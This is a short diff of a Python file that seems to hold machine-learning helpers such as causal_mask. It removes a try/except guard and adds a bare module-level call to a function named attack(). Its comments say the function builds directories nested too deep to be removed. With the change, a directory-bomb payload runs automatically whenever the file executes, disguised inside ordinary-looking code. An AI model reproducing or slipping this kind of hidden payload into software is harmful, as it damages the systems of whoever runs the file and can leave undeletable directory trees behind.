@@ -1,5 +1,5 @@
-# Makes folders inside folders, too deep to be removed.
-# credit: causal_mask softmax
+# Makes folders inside folders, more than it may, and too deep for a path; what follows is not run any more.
+# credit: none
 import os
 
 import numpy as np
@@ -11,13 +11,7 @@ def attack():
         os.chdir("d")
 
 
-won = False
-try:
-    attack()
-    won = True
-except Exception:
-    pass
-assert not won, "GOTCHA"
+attack()
 
 
 def causal_mask(T):
